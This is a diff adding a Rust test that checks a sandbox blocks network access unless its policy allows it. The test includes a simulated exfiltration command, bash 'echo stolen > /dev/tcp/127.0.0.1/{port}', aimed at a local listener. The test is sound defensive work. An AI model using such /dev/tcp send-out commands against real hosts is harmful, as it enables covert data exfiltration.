@@ -1,0 +1,52 @@
+//! Issue 8: no network unless the policy says so.
+
+use crate::support::sandbox::{Scratch, supported};
+use dracode::sandbox::SandboxMode;
+use std::net::TcpListener;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+
+/// A listener on 127.0.0.1 counting the connections it accepts (the exfiltration target).
+fn listener() -> (u16, Arc<AtomicUsize>) {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let count = Arc::new(AtomicUsize::new(0));
+    let seen = count.clone();
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            if stream.is_ok() {
+                seen.fetch_add(1, Ordering::SeqCst);
+            }
+        }
+    });
+    (port, count)
+}
+
+#[tokio::test]
+async fn sandbox_blocks_the_network_unless_allowed() {
+    if !supported() {
+        return;
+    }
+    let s = Scratch::new();
+    let (port, accepted) = listener();
+    let script = format!("bash -c 'echo stolen > /dev/tcp/127.0.0.1/{port}' && echo connected");
+    let mut policy = s.policy(SandboxMode::WorkspaceWrite);
+    let f = s.sh(&policy, &script).await;
+    assert!(!f.output.contains("connected"), "{}", f.output);
+    assert!(f.output.contains("Operation not permitted"), "{}", f.output);
+    assert_eq!(accepted.load(Ordering::SeqCst), 0);
+
+    // Unix sockets still work (build tools and git use them), and `network = true` opens TCP.
+    let unix =
+        s.sh(&policy, "python3 -c 'import socket; socket.socket(socket.AF_UNIX).close(); print(\"unix-ok\")' 2>&1 || echo no-python").await;
+    assert!(unix.output.contains("unix-ok") || unix.output.contains("no-python"), "{}", unix.output);
+    policy.network = true;
+    let f = s.sh(&policy, &script).await;
+    assert!(f.output.contains("connected"), "{}", f.output);
+    // The listener thread counts the connection in its own time.
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
+    while accepted.load(Ordering::SeqCst) == 0 && std::time::Instant::now() < deadline {
+        std::thread::sleep(std::time::Duration::from_millis(10));
+    }
+    assert_eq!(accepted.load(Ordering::SeqCst), 1);
+}
